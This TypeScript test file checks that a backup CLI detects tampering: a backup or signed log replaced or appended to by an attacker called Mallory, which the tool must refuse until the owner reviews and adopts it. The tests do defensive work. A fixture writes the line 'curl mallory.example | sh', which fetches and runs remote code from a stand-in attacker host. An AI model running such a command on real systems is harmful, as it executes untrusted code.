/**
 * Issue 12, findings 3 and 4, through the built CLI, as the attacks of someone who can
 * write the backup storage but holds none of the owner's or host's private keys:
 * replacing the backup by one encrypted to their own key, or appending to it or to a
 * signed log so that the owner's next signed command vouches for what they wrote.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { dare, tempDir } from '../../test/helpers/dare.js';
import { ArchiveWriter, LogWriter, decodeKeyFile, parsePublicKeySet, type SigningKey } from '../../lib/index.js';

const { dir, cleanup } = tempDir('dare-writers-trust-');
afterAll(cleanup);
const p = (...n: string[]) => join(dir, ...n);

beforeAll(async () => {
  for (const who of ['owner', 'host', 'mallory']) {
    const r = await dare(['keygen', '-o', p(`${who}.key`)]);
    expect(r.code, r.stderr).toBe(0);
    writeFileSync(p(`${who}.pub`), /public key: (dare1[a-z2-7]+)/.exec(r.stdout)![1]! + '\n');
  }
  mkdirSync(p('docs'));
  writeFileSync(p('docs', 'plan.txt'), 'the plan\n');
  mkdirSync(p('evil'));
  writeFileSync(p('evil', 'run-me.sh'), 'curl mallory.example | sh\n');
}, 30_000);

/** Mallory's own tools (the library): she knows the owner's public key, and holds her own key. */
async function mallorysAppend(archive: string, signer?: SigningKey): Promise<void> {
  const owner = parsePublicKeySet(readFileSync(p('owner.pub'), 'utf8').trim()).encryption;
  const w = await ArchiveWriter.openWriteOnly(archive, { recipients: [owner], signer, adopt: true });
  const t = '2024-01-01T00:00:00.000Z';
  await w.add({ path: 'evil', kind: 'directory', size: 0, mode: 0o755, modified: t });
  await w.add({ path: 'evil/run-me.sh', kind: 'file', size: 4, mode: 0o755, modified: t }, new TextEncoder().encode('evil'));
  await w.finish();
}

async function malloryKey(): Promise<SigningKey> {
  return (await decodeKeyFile(readFileSync(p('mallory.key'), 'utf8'))).signingKeys[0] as SigningKey;
}

async function backup(name: string): Promise<string> {
  const r = await dare(['archive', p(name), p('docs'), '-e', p('owner.pub'), '-s', p('host.key')]);
  expect(r.code, r.stderr).toBe(0);
  return p(name);
}

describe('dare append trusts only keys it holds or is given (finding 3)', () => {
  it('the backup replaced by one encrypted to Mallory and signed by her: the host\'s daily append exits 4 and sends Mallory nothing', async () => {
    const b = await backup('replaced.dare');
    const forged = await dare(['archive', p('forged.dare'), p('evil'), '-e', p('mallory.pub'), '-s', p('mallory.key')]);
    expect(forged.code, forged.stderr).toBe(0);
    copyFileSync(p('forged.dare'), b);
    const before = readFileSync(b);
    const daily = await dare(['append', b, p('docs'), '-s', p('host.key')]);
    expect(daily.code).toBe(4);
    expect(daily.stderr).toMatch(/no frame carries a signature by a trusted key/);
    expect(readFileSync(b).equals(before)).toBe(true);
    const seen = await dare(['list', b, '-i', p('mallory.key')]);
    expect(seen.stdout).not.toMatch(/plan\.txt/);
    // Without --sign, trusting the host: the keys come from the file, nobody trusted signed them.
    const unsigned = await dare(['append', b, p('docs'), '--signer', p('host.pub'), '--unsigned']);
    expect(unsigned.code).toBe(4);
    expect(unsigned.stderr).toMatch(/come from the file itself[\s\S]*dare: hint: give --signer KEY/);
    // The real backup: the host's own key vouches for it.
    const real = await backup('real.dare');
    const ok = await dare(['append', real, p('docs'), '-s', p('host.key')]);
    expect(ok.code, ok.stderr).toBe(0);
  });
});

describe('signed sessions never sign over frames nobody trusted signed (finding 4)', () => {
  it('Mallory appends to the backup unsigned: the owner\'s re-index and the host\'s append exit 4 naming the frames; --adopt after review', async () => {
    const b = await backup('tampered.dare');
    await mallorysAppend(b);
    const before = readFileSync(b);
    const reindex = await dare(['index', b, '-i', p('owner.key'), '-s', p('host.key')]);
    expect(reindex.code).toBe(4);
    expect(reindex.stderr).toMatch(/frames 4-6 were not written by this session and the last signature by a trusted key is on frame 3/);
    expect(reindex.stderr).toMatch(/dare: hint: review them with `dare list .* -i KEY --json` \(entries with "frame" 4 or more\)/);
    const host = await dare(['append', b, p('docs'), '-s', p('host.key')]);
    expect(host.code).toBe(4);
    expect(readFileSync(b).equals(before)).toBe(true);
    // Nothing says the host signed Mallory's files.
    expect((await dare(['extract', b, p('out-tampered'), '--signer', p('host.pub'), '-i', p('owner.key')])).code).toBe(4);
    // The review: Mallory's entries and their frames.
    const review = await dare(['list', b, '-i', p('owner.key'), '--json']);
    const entries = JSON.parse(review.stdout).entries as { path: string; frame: number }[];
    expect(entries.filter((e) => e.frame >= 4).map((e) => e.path)).toEqual(['evil', 'evil/run-me.sh']);
    const adopted = await dare(['index', b, '-i', p('owner.key'), '-s', p('host.key'), '--adopt']);
    expect(adopted.code, adopted.stderr).toBe(0);
    expect(adopted.stderr).toMatch(/adopted frames 4-6/);
    expect((await dare(['verify', b, '--signer', p('host.pub'), '-i', p('owner.key')])).code).toBe(0);
  });

  it('Mallory appends with her own key: the owner\'s keyed append exits 4', async () => {
    const b = await backup('mallory-signed.dare');
    await mallorysAppend(b, await malloryKey());
    const owner = await dare(['append', b, p('docs'), '-i', p('owner.key'), '-s', p('host.key')]);
    expect(owner.code).toBe(4);
    expect(owner.stderr).toMatch(/frames 4-6 were not written by this session/);
  });

  it('a signed log: an entry appended without the key is not covered by the next --sign until --adopt', async () => {
    const log = p('audit.dlog');
    expect((await dare(['log', 'create', log, '-e', p('owner.pub'), '--sign', p('owner.key')])).code).toBe(0);
    expect((await dare(['log', 'append', log, 'owner 1', '--sign', p('owner.key')])).code).toBe(0);
    const m = await LogWriter.open(log, { recipients: [parsePublicKeySet(readFileSync(p('owner.pub'), 'utf8').trim()).encryption] });
    await m.append('wire 10000 EUR to mallory');
    await m.close();
    const next = await dare(['log', 'append', log, 'owner 2', '--sign', p('owner.key')]);
    expect(next.code).toBe(4);
    expect(next.stderr).toMatch(/frame 2 was not written by this session and the last signature by a trusted key is on frame 1/);
    expect(next.stderr).toMatch(/dare: hint: review it with `dare log show .* -i KEY --from 2`/);
    const review = await dare(['log', 'show', log, '-i', p('owner.key'), '--from', '2']);
    expect(review.stdout).toMatch(/^2\t.*\twire 10000 EUR to mallory\n$/);
    const adopted = await dare(['log', 'append', log, 'owner 2', '--sign', p('owner.key'), '--adopt']);
    expect(adopted.code, adopted.stderr).toBe(0);
    expect(adopted.stderr).toMatch(/adopted entry 2/);
    expect((await dare(['log', 'verify', log, '--signer', p('owner.pub')])).code).toBe(0);
  });

  it('a log replaced by one encrypted to Mallory: an unsigned append trusting the owner exits 4', async () => {
    const log = p('replaced.dlog');
    expect((await dare(['log', 'create', log, '-e', p('mallory.pub'), '--sign', p('mallory.key')])).code).toBe(0);
    const r = await dare(['log', 'append', log, 'secret', '--signer', p('owner.pub')]);
    expect(r.code).toBe(4);
    const e = await dare(['log', 'append', log, 'secret', '-e', p('owner.pub')]);
    expect(e.code).toBe(7);
    expect(e.stderr).toMatch(/may have been replaced/);
  });
});
